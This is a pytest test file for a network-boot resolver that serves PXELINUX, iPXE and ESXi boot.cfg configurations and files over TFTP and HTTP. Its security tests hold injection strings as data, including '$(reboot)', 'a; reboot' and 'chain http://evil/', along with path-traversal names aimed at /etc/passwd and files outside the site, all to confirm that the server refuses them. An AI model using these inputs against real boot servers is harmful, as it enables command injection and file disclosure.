"""One resolver for TFTP and HTTP: every form of name, on real images, and names that nobody should ask."""

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from midwife.core.token import verify
from midwife.images.boot.loaders import DISTRIBUTED
from midwife.serve.messages import Content, Found, Refused, encode
from midwife.site.model import Host
from midwife.wire import bootcfg
from midwife.wire.bootcmd import find_pbhost, find_token
from midwife.wire.identity import dashed_mac, swap_uuid

from .deciding import ESXI_FILES, MACS, SECRET, UUID, World, make_site

FIRST, SECOND = "192.0.2.11", "192.0.2.12"
STRANGER = "02:00:00:00:00:99"


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    site = make_site(tmp_path)
    (tmp_path / "files" / "sub").mkdir()
    (tmp_path / "files" / "sub" / "driver.vib").write_text("a driver")
    (tmp_path / "files" / "boot.cfg").write_text("the site's own")
    (tmp_path / "loaders").mkdir()
    for name in ("pxelinux.0", "snponly.efi", "undionly.kpxe"):
        (tmp_path / "loaders" / name).write_text(f"own {name}")
    world = World(site)
    yield world
    world.close()


def name_of(host: str) -> str:
    return f"pxelinux.cfg/{dashed_mac(MACS[host])}"


# PXELINUX


def test_pxelinux_by_mac(world: World) -> None:
    text = world.text(name_of("esx-01"), "tftp")
    attempt = world.attempts.current("esx-01")
    assert attempt
    token = find_token(text)
    assert verify(SECRET, token, attempt.id, FIRST)
    assert text == (
        f"# midwife: esx-01 boots rescue (attempt {attempt.id})\n"
        "DEFAULT midwife\nPROMPT 0\nLABEL midwife\n"
        f"  KERNEL a/{attempt.id}/rescue/vmlinuz\n"
        f"  INITRD a/{attempt.id}/rescue/initrd.img\n"
        f"  APPEND PBHOST=192.0.2.2:3500 PBTOKEN={token} quiet BOOTIF=01-52-54-00-00-00-01\n"
    )


@pytest.mark.parametrize("order", ["as dmidecode prints it", "as PXELINUX asks"])
def test_pxelinux_by_uuid_in_either_byte_order(world: World, order: str) -> None:
    uuid = UUID if order.startswith("as dmidecode") else swap_uuid(UUID)
    text = world.text(f"pxelinux.cfg/{uuid}", "tftp")
    assert "midwife: byuuid boots rescue" in text
    assert "BOOTIF" not in text, "its MAC address is not known"
    # >> PXELINUX asks for default when it is told to begin again: known by its address
    assert "midwife: byuuid boots rescue" in world.text("pxelinux.cfg/default", "tftp")


def test_a_uuid_nobody_has_is_refused_so_that_the_mac_address_comes_next(world: World) -> None:
    outcome = world.ask("pxelinux.cfg/aa223344-5566-7788-99aa-bbccddeeff00", "tftp")
    assert outcome == Refused(7, "no host has this UUID; the MAC address is asked next")
    assert world.store.hosts() == []


def test_pxelinux_by_address_once_it_is_known_whose_that_is(world: World) -> None:
    assert isinstance(world.ask("pxelinux.cfg/C000020B", "tftp"), Refused)
    assert isinstance(world.ask("pxelinux.cfg/default", "tftp"), Refused)
    world.text(name_of("esx-01"), "tftp")
    assert "esx-01 boots rescue" in world.text("pxelinux.cfg/C000020B", "tftp")
    assert "esx-01 boots rescue" in world.text("pxelinux.cfg/default", "tftp")
    assert isinstance(world.ask("pxelinux.cfg/C000020", "tftp"), Refused), "a prefix names a network"
    assert isinstance(world.ask("pxelinux.cfg/default", "tftp", client=SECOND), Refused)


def test_pxelinux_chains_to_mboot_for_esxi(world: World) -> None:
    text = world.text(name_of("esx-02"), "tftp")
    attempt = world.attempts.current("esx-02")
    assert attempt
    assert f"KERNEL a/{attempt.id}/8.0U3/mboot.c32" in text
    assert f"APPEND -c {dashed_mac(MACS['esx-02'])}/boot.cfg" in text
    assert find_token(text) == "", "the token is on the kernel line, which boot.cfg has"


def test_told_to_boot_from_disk_on_each_path(world: World) -> None:
    assert "LOCALBOOT -1" in world.text(name_of("disk-03"), "tftp")
    assert world.text("ipxe", mac=MACS["disk-03"]).endswith("\nexit\n")
    assert bootcfg.parse(world.text(f"{dashed_mac(MACS['disk-03'])}/boot.cfg")).number("skip", 0) == 1
    assert world.state("disk-03") == "local"


# iPXE


def test_ipxe_asks_who_it_is_and_gets_its_script(world: World) -> None:
    entry = world.text("boot.ipxe")
    assert entry == world.text("autoexec.ipxe", "tftp")
    assert entry.startswith("#!ipxe\n")
    assert "chain --replace --autofree http://192.0.2.2:8080/ipxe?" in entry
    text = world.text("ipxe", mac="52-54-00-00-00-01", uuid=UUID[:-1] + "1", platform="efi", serial="SN-1")
    attempt = world.attempts.current("esx-01")
    assert attempt
    base = f"http://192.0.2.2:8080/a/{attempt.id}/rescue"
    assert f"initrd {base}/initrd.img || goto failed\n" in text
    assert f"kernel {base}/vmlinuz initrd=initrd.img PBHOST=192.0.2.2:3500 PBTOKEN={attempt.id}." in text
    row = world.store.host("esx-01")
    assert row
    assert row.facts.firmware == "ipxe-efi"


def test_ipxe_loads_mboot_for_esxi(world: World) -> None:
    text = world.text("ipxe", mac=MACS["esx-02"], platform="efi")
    attempt = world.attempts.current("esx-02")
    assert attempt
    mac = dashed_mac(MACS["esx-02"])
    assert (
        f"kernel http://192.0.2.2:8080/a/{attempt.id}/8.0U3/mboot.efi"
        f" -c http://192.0.2.2:8080/{mac}/boot.cfg BOOTIF={mac}" in text
    )
    assert f"set 209:string pxelinux.cfg/{mac}" in text


@pytest.mark.parametrize("mac", ["", "junk", "${netX/mac}", "52:54:00", "é", "\0"])
def test_ipxe_without_a_mac_address_is_told_so(world: World, mac: str) -> None:
    outcome = world.ask("ipxe", query={"mac": mac})
    assert isinstance(outcome, Refused)
    assert outcome.status == 400
    assert world.store.hosts() == []


def test_ipxe_variables_that_are_junk_do_no_harm(world: World) -> None:
    query = {
        "mac": MACS["esx-01"], "uuid": "no uuid", "serial": "\x1b[31m" + "x" * 500, "asset": "Default string",
        "ip": "$(reboot)", "hostname": "a; reboot #.lab", "manufacturer": "\u202eDell", "what": "ever",
    }  # fmt: skip
    world.text("ipxe", **query)
    row = world.store.host("esx-01")
    assert row
    facts = row.facts
    assert (facts.macs, facts.uuid, facts.vendor) == ((MACS["esx-01"],), "", "Dell")
    assert facts.serial == ("[31m" + "x" * 500)[:128], "control characters are gone"
    assert (facts.hostname, facts.domain, facts.ipv4, facts.asset) == ("", "", "", "")


@pytest.mark.parametrize(
    "serial", ["${netX/mac}", '"; boot http://evil/', "x\nchain http://evil/", "x || shell", "`x`", "é" * 200]
)
def test_a_serial_number_never_becomes_a_command(world: World, serial: str) -> None:
    text = world.text("ipxe", mac=STRANGER, serial=serial, manufacturer=serial, product=serial)
    lines = [line for line in text.splitlines() if line.startswith("echo   serial")]
    assert len(lines) == 1
    said = lines[0].removeprefix("echo   serial")
    assert not set(said) & set("${}\"'`|;&\\"), said
    commands = [line.split(" ")[0] for line in text.splitlines()]
    assert commands == ["#!ipxe", *["echo"] * 6, "sleep", "chain"]


def test_a_stranger_is_told_to_wait_and_shown(world: World) -> None:
    text = world.text("ipxe", mac=STRANGER)
    assert f"mac {STRANGER}" in text
    assert "sleep 30" in text
    assert world.state(STRANGER) == "discovered"
    assert "no image: nothing to boot" in world.texts(STRANGER)
    assert "SAY midwife has nothing to boot" in world.text(f"pxelinux.cfg/{dashed_mac(STRANGER)}", "tftp")
    title = world.text(f"{dashed_mac(STRANGER)}/boot.cfg").splitlines()[0]
    assert title == (
        "title=midwife has nothing to boot: no rule gives it an image. "
        f"midwife rule suggest {STRANGER}. This is mac {STRANGER}"
    )


# boot.cfg


@pytest.mark.parametrize("proto", ["http", "tftp"])
def test_boot_cfg_by_mac_is_the_image_s_own_rewritten(world: World, proto: str) -> None:
    text = world.text(f"8.0U3/{dashed_mac(MACS['esx-02'])}/boot.cfg", proto)
    cfg = bootcfg.parse(text)
    attempt = world.attempts.current("esx-02")
    assert attempt
    relative = f"a/{attempt.id}/8.0U3"
    assert cfg.prefix == (f"http://192.0.2.2:8080/{relative}" if proto == "http" else relative)
    assert cfg.kernel == "b.b00"
    assert [module.name for module in cfg.modules] == ["k.b00", "s.v00"]
    assert "runweasel" not in cfg.kernelopt, "a stateless boot starts no installer"
    assert str(find_pbhost(cfg.kernelopt)) == "192.0.2.2:3500"
    assert verify(SECRET, find_token(cfg.kernelopt), attempt.id, FIRST)
    # >> mboot asks for the modules that are named there, in upper case too
    for name in (cfg.kernel, "K.B00", "s.v00"):
        found = world.ask(f"{relative}/{name}", proto)
        assert isinstance(found, Found)
        assert Path(found.path).read_bytes() == ESXI_FILES[name.lower()]
        assert found.size == len(ESXI_FILES[name.lower()])


def test_boot_cfg_without_mac_is_answered_to_an_address_that_is_known(world: World) -> None:
    assert isinstance(world.ask("8.0U3/boot.cfg"), Refused)
    assert isinstance(world.ask("boot.cfg"), Refused)
    world.text(name_of("esx-02"), "tftp")
    assert "midwife: esx-02 boots 8.0U3" in world.text("8.0U3/boot.cfg")
    assert isinstance(world.ask("boot.cfg", client=SECOND), Refused)


def test_mboot_on_a_host_that_boots_linux_is_told_what_to_do(world: World) -> None:
    refused = world.ask(f"{dashed_mac(MACS['esx-01'])}/boot.cfg")
    assert isinstance(refused, Refused)
    assert refused.status == 500
    assert "which is no ESXi image: mboot cannot load it" in refused.reason


# files


def test_files_of_images_belong_to_everybody(world: World) -> None:
    for name in ("rescue/vmlinuz", "/rescue/vmlinuz", "a/whatever/rescue/VMLINUZ", "rescue\\vmlinuz"):
        found = world.ask(name)
        assert isinstance(found, Found)
        assert found.cache
    assert world.ask("rescue/no") == Refused(7, "image rescue has no file 'no'")
    assert world.ask("8.0U3/image.json") == Refused(7, "image 8.0U3 has no file 'image.json'")


def test_loaders_come_from_the_image_or_the_site(world: World, tmp_path: Path) -> None:
    for name in ("mboot.efi", "crypto64.efi", "mboot.c32", "EFI/Boot/CRYPTO64.EFI"):
        found = world.ask(name, "tftp")
        assert isinstance(found, Found)
        assert found.path.startswith(str(tmp_path / "data/images/8.0U3/files/"))
    own = world.ask("snponly.efi")
    assert isinstance(own, Found)
    assert Path(own.path).read_text() == "own snponly.efi"


def test_a_loader_that_is_nowhere_says_what_to_install(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("midwife.images.boot.loaders._IPXE", ())
    refused = world.ask("ipxe.efi")
    assert isinstance(refused, Refused)
    assert refused.reason.startswith("ipxe.efi is not on this machine: install ipxe")


def test_the_site_s_own_files(world: World, tmp_path: Path) -> None:
    found = world.ask("files/sub/driver.vib")
    assert found == Found(7, str(tmp_path / "files/sub/driver.vib"), 8)
    own = world.ask("files/boot.cfg")
    assert isinstance(own, Found), "what is in files/ is no configuration of a host"
    (tmp_path / "files" / "snponly.efi").write_text("mine")
    mine = world.ask("files/snponly.efi")
    assert isinstance(mine, Found)
    assert Path(mine.path).read_text() == "mine"
    assert isinstance(world.ask("files/sub"), Refused)
    assert isinstance(world.ask("files/nothing"), Refused)
    assert isinstance(world.ask("files/" + "x" * 300), Refused)


def test_nothing_outside_of_files(world: World, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("secret")
    (tmp_path / "files" / "out").symlink_to(tmp_path / "secret")
    (tmp_path / "files" / "etc").symlink_to("/etc")
    (tmp_path / "files" / "in").symlink_to("sub/driver.vib")
    (tmp_path / "files" / "round").symlink_to("round")
    os.mkfifo(tmp_path / "files" / "pipe")
    for name in ("files/out", "files/etc/passwd", "files/etc"):
        refused = world.ask(name)
        assert isinstance(refused, Refused)
        assert (refused.status, refused.reason) == (403, f"{name!r} leads out of the site's files/")
    for name in ("files/../secret", "../secret", "a/x/../../secret", "\\..\\secret", "/files/..\\secret"):
        refused = world.ask(name)
        assert isinstance(refused, Refused)
        assert refused.status == 403
    for name in (
        "files/round",
        "files/pipe",
        "files//etc/passwd/x",
        "secret",
        "midwife.yaml",
        "data/midwife.db",
    ):
        assert isinstance(world.ask(name), Refused)
    assert isinstance(world.ask("files/in"), Found)


# what a person got wrong


def test_an_overlong_kernel_line_names_its_long_words(tmp_path: Path) -> None:
    options = f"ks=http://192.0.2.2/ks.cfg?key={'s' * 2000} other=1"
    hosts = [Host(name="esx-01", macs=(MACS["esx-01"],), image="rescue", options=options)]
    world = World(make_site(tmp_path, hosts=hosts))
    refused = world.ask(name_of("esx-01"), "tftp")
    told, trip = world.texts(), world.attempts.current("esx-01")
    world.close()
    assert isinstance(refused, Refused)
    assert refused.status == 500
    assert refused.reason.startswith("esx-01: the kernel command line has ")
    assert "the longest words: ks (2031)" in refused.reason
    assert "sss" not in refused.reason, "values may be secrets"
    assert told == f"pxelinux over tftp: {refused.reason}"
    assert trip is None, "what cannot be given begins no boot"


def test_an_image_that_broke_after_its_import(world: World, tmp_path: Path) -> None:
    (tmp_path / "images" / "vmlinuz").unlink()
    refused = world.ask(name_of("esx-01"), "tftp")
    assert isinstance(refused, Refused)
    assert refused.status == 500
    assert "images.rescue in midwife.yaml" in refused.reason
    assert world.kinds() == ["no-config"]
    assert world.state() == "armed"


# anything at all

HOSTILE = st.text(max_size=60) | st.lists(
    st.sampled_from(
        ["..", ".", "", "/", "\\", "a", "files", "rescue", "8.0U3", "vmlinuz", "B.B00", "boot.cfg", "ipxe",
         "pxelinux.cfg", "default", "sub", "driver.vib", "C000020B", UUID, dashed_mac(MACS["esx-01"]),
         dashed_mac(MACS["esx-02"]), dashed_mac(MACS["disk-03"]), dashed_mac(STRANGER), "etc", "passwd",
         "efi/boot/crypto64.efi", "\0", "\ud800", "%2e%2e", "x" * 300, *DISTRIBUTED]
    ),
    max_size=6,
).map("/".join)  # fmt: skip
QUERY = st.dictionaries(
    st.sampled_from(
        ["mac", "uuid", "serial", "asset", "manufacturer", "product", "hostname", "ip", "platform"]
    ),
    st.text(max_size=20) | st.sampled_from([MACS["esx-01"], STRANGER, UUID, "efi", "${x}", "\ud800"]),
)


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    root = tmp_path_factory.mktemp("site")
    rules = [
        {"name": "dells", "patterns": ["vendor=Dell"], "items": {"image": "rescue"}},
        {"name": "net", "patterns": ["ipv4=10.0.0.1-10.0.0.9"], "items": {"boot": "local"}},
    ]
    site = make_site(root, rules=rules)
    (root / "files" / "driver.vib").write_text("a driver")
    (root / "files" / "etc").symlink_to("/etc")
    world = World(site)
    yield world
    world.close()


@settings(max_examples=300, deadline=None)
@given(HOSTILE, st.sampled_from(["http", "tftp"]), st.sampled_from([FIRST, SECOND, "", "::1"]), QUERY)
def test_any_name_and_any_query_give_an_answer(
    shared: World, name: str, proto: str, client: str, query: dict[str, str]
) -> None:
    outcome = shared.ask(name, proto, client, query)
    assert encode(outcome)
    assert outcome.id == 7
    if isinstance(outcome, Found):
        path = Path(outcome.path)
        assert path.is_file()
        assert path.stat().st_size == outcome.size
        root = shared.site.root
        inside = (root / "files", root / "images", root / "data/images", root / "loaders")
        packaged = path.name.lower() in {file for names in DISTRIBUTED.values() for file in names}
        assert any(path.resolve().is_relative_to(folder) for folder in inside) or packaged, path
    elif isinstance(outcome, Refused):
        assert outcome.reason
        assert outcome.status in (400, 403, 404, 500, 503)
    else:
        assert isinstance(outcome, Content)
        assert outcome.body
